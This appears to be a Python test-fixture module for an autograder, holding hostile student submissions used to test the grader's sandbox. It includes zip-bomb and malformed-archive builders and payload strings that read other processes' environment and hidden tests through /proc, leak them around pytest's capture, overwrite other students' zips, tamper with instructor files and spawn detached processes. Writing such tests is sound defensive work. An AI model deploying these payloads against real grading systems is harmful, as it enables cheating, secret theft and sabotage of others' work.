"""Hostile submissions for the grading tests: payloads and zip builders.

Each payload is code a student could put at the top of an assignment file;
each builder writes a zip the way collect_submission.py would (same module,
same manifest), then changes what an attacker would change.
"""
import json
import struct
import zipfile
import zlib

import torch

from helpers import submission
from helpers.checkpoint import FORMAT


def pack(kit, folder, student_id, zip_id=None, created=None, **manifest_changes):
    """Zip ``kit`` as collect_submission would (without re-running the self-check)."""
    files = submission.submission_files(kit)
    manifest = submission.build_manifest(student_id, f"Student {student_id}", files,
                                         {"summary": "not run", "lines": [], "exit_code": None})
    if created:
        manifest["created_utc"] = created
    manifest.update(manifest_changes)
    path = folder / submission.zip_name(zip_id or student_id)
    submission.write_submission(path, files, manifest)
    return path


def pack_raw_manifest(kit, folder, zip_id, manifest_text):
    """A zip of ``kit`` whose MANIFEST.json is ``manifest_text`` as given."""
    path = folder / submission.zip_name(zip_id)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for arcname, source in sorted(submission.submission_files(kit).items()):
            archive.write(source, arcname)
        archive.writestr(submission.MANIFEST, manifest_text)
    return path


def deep_manifest(kit, depth=100_000):
    """Manifest text valid in every field but a ``self_check`` nested ``depth`` levels."""
    files = submission.submission_files(kit)
    manifest = submission.build_manifest("deep01", "Deep", files, {})
    text = json.dumps(manifest)
    return text.replace('"self_check": {}', '"self_check": ' + "[" * depth + "]" * depth)


def zeros_deflated(size, block=1 << 24):
    """A raw deflate stream that inflates to ``size`` zero bytes (``size`` a multiple of
    ``block``), built from one compressed block repeated (full flushes make blocks independent)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = compressor.compress(bytes(block)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return chunk * (size // block) + compressor.flush()


def lying_zip(path, name, compressed, declared_size):
    """A one-member zip whose headers declare ``declared_size`` for ``compressed`` (deflated)."""
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(compressed),
                        declared_size, len(encoded), 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0,
                          len(compressed), declared_size, len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(compressed), 0)
    path.write_bytes(local + compressed + central + end)
    return path


def many_entries_zip(source, path, count=100_000):
    """``source`` zip plus ``count`` tiny unexpected entries."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as target:
        for info in original.infolist():
            target.writestr(info, original.read(info.filename))
        for index in range(count):
            target.writestr(f"junk/{index}.txt", "")
    return path


def stride_zero_two_layer_net(path, hidden=4096):
    """A two-layer net file of a few KB whose tensors are stride-0 views of one number."""
    one = torch.zeros(1)
    params = {"W1": one.expand(3072, hidden), "b1": one.expand(hidden),
              "W2": one.expand(hidden, 10), "b2": one.expand(10)}
    torch.save(checkpoint_dict("two_layer_net", params), path)


def checkpoint_dict(kind, params):
    """A checkpoint in the kit's format holding ``params`` exactly as given (``save_model``
    would copy them into plain tensors)."""
    return {"format": FORMAT, "kind": kind, "config": {}, "params": params}


# ----------------------------------------------------------------- payloads ---

def reach_out(token, port, unix_path):
    """Everything a submission might try to reach outside its sandbox, at import time:
    the grader's kit through /proc/<pid>/cwd, every other zip, the network, and a
    detached process that outlives the run."""
    return f"""
import os as _os, glob as _glob, socket as _socket_mod, subprocess as _sp, sys as _sys
import _socket
for _pid in _os.listdir('/proc'):  # the instructor's kit, through any process's cwd or root
    for _link in ('cwd', 'root'):
        try:
            for _f in _glob.glob(f'/proc/{{_pid}}/{{_link}}/assignment/*.py'):
                with open(_f, 'a') as _h:
                    _h.write('\\nINJECTED_BY = "reach01"\\n')
        except OSError:
            pass
for _pattern in ('/proc/*/cwd/**/*_submission.zip', '/proc/*/root/tmp/**/*_submission.zip',
                 '/tmp/**/*_submission.zip'):  # every other student's zip
    for _z in _glob.glob(_pattern, recursive=True):
        try:
            with open(_z, 'wb') as _h:
                _h.write(b'swapped by reach01')
        except OSError:
            pass
for _connect in (lambda: _socket.socket().connect(('127.0.0.1', {port})),
                 lambda: _socket_mod.socket.__base__.connect(_socket_mod.socket(),
                                                             ('127.0.0.1', {port})),
                 lambda: _socket_mod.socket(_socket_mod.AF_UNIX).connect({str(unix_path)!r})):
    try:
        _connect()
    except Exception:
        pass
try:
    _sp.run([_sys.executable, '-c',
             'import socket; socket.create_connection(("127.0.0.1", {port}))'],
            timeout=10, capture_output=True)
except Exception:
    pass
if not _os.environ.get('REACH01_STARTED'):
    _os.environ['REACH01_STARTED'] = '1'
    _sp.Popen([_sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', {token!r}],
              start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""


DUMP_SECRETS = """
import os as _os, pathlib as _pl
_texts = []
for _pid in _os.listdir('/proc'):  # the grader's environment, rubric, reference code, zips
    for _name in ('environ', 'cwd/instructor/rubric.json', 'cwd/assignment/metrics.py'):
        try:
            _text = open(f'/proc/{_pid}/{_name}', errors='replace').read()
            _texts.append(_text.replace('\\0', '\\n'))
        except OSError:
            pass
_texts.append(repr(dict(_os.environ)))
_here = _pl.Path(__file__).resolve().parents[1]
_texts += [p.read_text() for p in sorted((_here / 'tests' / 'hidden').glob('test_*.py'))]
_out = ('y' * 100000 + '\\n' + '\\n'.join(_texts) + '\\n').encode()  # secrets last
for _fd in _os.listdir('/proc/self/fd'):  # around pytest's capture: every pipe it can find
    try:
        if int(_fd) > 0 and _os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):
            _os.write(int(_fd), _out)
    except OSError:
        pass
_os._exit(1)
"""

# Breaks the result file of the old in-sandbox runner (_grade_runner.py); with trusted verdicts
# no process of the student's writes a result, so it finds nothing to break.
BREAK_RESULT_FILE = """
import atexit as _atexit, sys as _sys
if _sys.argv and _sys.argv[0].endswith('_grade_runner.py'):
    _result = _sys.argv[1]
    def _break():
        with open(_result, 'w') as _h:
            _h.write('{"metrics": ')
    _atexit.register(_break)
"""
